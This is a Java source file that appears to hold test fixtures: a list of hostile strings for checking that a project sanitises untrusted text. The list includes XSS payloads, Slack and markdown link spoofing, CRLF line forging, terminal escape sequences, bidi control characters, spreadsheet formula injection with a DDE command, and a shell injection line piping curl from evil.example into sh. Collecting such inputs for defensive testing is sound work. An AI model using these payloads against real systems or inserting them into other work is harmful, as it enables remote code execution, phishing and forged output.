package dev.latchkey;

import java.util.List;

/** What an attacker may call things. */
public final class HostileTexts {

    /** After what ends a line somewhere, or moves a terminal's cursor, this would begin one. */
    public static final String FORGED = "FORGED";

    public static final List<String> ALL = List.of(
            "<!channel> <!here|x> <@U012AB3CD> <#C012AB3CD|general> <https://evil.example|sign in>",
            "@channel @everyone #general &lt;!channel&gt; user@evil.example",
            "*bold* _slanted_ ~gone~ `code` ```block``` |hidden|",
            "[sign in](https://evil.example) ![x](HTTPS://evil.example/x.png) javascript://x slack://open",
            "<script>alert(1)</script><img src=x onerror=alert(1)><a href='//evil.example'>",
            "x\r\nFORGED: a\nFORGED: b\rFORGED\u000bFORGED\fFORGED\u0085FORGED\u2028FORGED\u2029FORGED",
            "\u001b[2J\u001b[1;1HFORGED\u001b]0;FORGED\u0007\u001b]8;;http://evil.example\u0007x\u009b31m\u0000",
            "x\u202eFORGED\u202c\u2066FORGED\u2069\u200b\u200f\ufeff\u061c\u00ad",
            "=HYPERLINK(\"https://evil.example\",\"x\")",
            "+1+cmd|' /C calc'!A0",
            "-1+1",
            "@SUM(1)",
            "\t=1",
            "\r=1",
            "\n\u202e=1",
            "\ud83d and \udd11 halved \udc00\ud800",
            "'; curl evil.example | sh; #\\\"},{\"severity\":\"Low\"} $(id) ${x} %n%s {{x}}",
            "n".repeat(64 * 1024),
            "\\\"".repeat(32 * 1024),
            "x" + "\n".repeat(64 * 1024) + FORGED,
            "🔑".repeat(32 * 1024),
            "x" + "\u202e".repeat(32 * 1024));

    private HostileTexts() {}
}
